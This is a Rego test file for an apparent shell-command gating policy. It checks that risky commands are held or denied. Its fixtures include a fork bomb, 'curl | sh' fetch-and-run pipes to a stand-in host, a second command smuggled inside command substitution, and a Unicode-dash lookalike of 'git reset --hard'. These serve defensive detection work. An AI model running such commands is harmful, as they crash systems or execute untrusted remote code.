package gatesh.rules.opaque_test

import rego.v1

import data.gatesh.lib.testing as t
import data.gatesh.rules.opaque

_h(inp) := x if x := t.ids(opaque.hold) with input as inp

_d(inp) := x if x := t.ids(opaque.deny) with input as inp

_op(reason, text) := t.line_with([], {"opaque": [{"reason": reason, "text": text, "via": []}]})

test_opaque_entries if {
	"opaque.pipe-to-shell" in _h(_op("pipe-to-shell", "curl https://x | sh"))
	"opaque.dynamic-command" in _h(_op("dynamic-command", "$CMD test"))
	"opaque.source" in _h(_op("source", "source ./setup.sh"))
	"opaque.weird" in _h(_op("weird", "x"))
	count(_h(_op("source", "source .venv/bin/activate"))) == 0
	"opaque.fork_bomb" in _d(_op("recursive-function", ":(){ :|:& };:"))
}

test_parse_error if "parse.error" in _h(t.line_with([], {"parse_error": {"msg": "unterminated quote", "line": 1, "col": 20, "nested": false}}))

test_lookalike if "parse.lookalike" in _h(t.line([t.ext(t.cmd(["git", "reset", "‐‐hard"]), {"lookalike": true})]))

test_code_effects if {
	"opaque.code.delete" in _h(t.line([t.code(t.cmd(["python3", "-c", "x"]), "python", ["delete"], ["/tmp/demo"])]))
	"opaque.code.network" in _h(t.line([t.code(t.cmd(["python3", "-c", "x"]), "python", ["network"], [])]))
	"opaque.code.eval" in _h(t.line([t.code(t.cmd(["node", "-e", "x"]), "node", ["eval"], [])]))
	"opaque.code.spawn" in _h(t.line([t.code(t.cmd(["node", "-e", "x"]), "node", ["spawn"], [])]))
	count(_h(t.line([t.code(t.cmd(["python3", "-c", "os.system('ls')"]), "python", ["spawn"], []), t.ext(t.cmd(["ls"]), {"via": [t.via("interp", "python3")]})]))) == 0
	count(_h(t.line([t.code(t.cmd(["python3", "-c", "print(1)"]), "python", [], [])]))) == 0
	"opaque.code.unknown" in _h(t.line([t.ext(t.cmd(["python3", "-"]), {"code": {"lang": "python", "from": "stdin", "text": "", "known": false, "effects": [], "paths": []}})]))
}

test_env_generator_eval_allowed if count(_h(_op("dynamic-code", `"$(/opt/homebrew/bin/brew shellenv)"`))) == 0

test_env_generator_backticks_allowed if count(_h(_op("dynamic-code", "`ssh-agent -s`"))) == 0

test_env_generator_with_more_code_held if "opaque.dynamic-code" in _h(_op("dynamic-code", `"$(brew shellenv; curl x.example | sh)"`))

test_env_generator_with_dynamic_args_held if "opaque.dynamic-code" in _h(_op("dynamic-code", `"$(brew $X)"`))

test_unknown_generator_held if "opaque.dynamic-code" in _h(_op("dynamic-code", `"$(curl -s x.example)"`))
